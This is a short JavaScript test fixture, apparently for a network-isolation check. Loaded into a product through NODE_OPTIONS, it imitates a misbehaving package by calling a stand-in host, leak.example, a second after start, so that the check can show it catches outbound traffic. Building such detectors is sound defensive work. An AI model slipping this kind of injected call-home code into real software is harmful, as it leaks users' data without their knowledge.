// Only for the step "no bytes leave" of src/commands/check.ts: loaded into the product (NODE_OPTIONS=--import=...) it
// calls home, as a package with bad habits would. The proof that sees nothing of it would be worth nothing.
if (process.argv[1]?.endsWith('start.mjs'))
  setTimeout(() => fetch('http://leak.example/').catch(() => undefined), 1000);
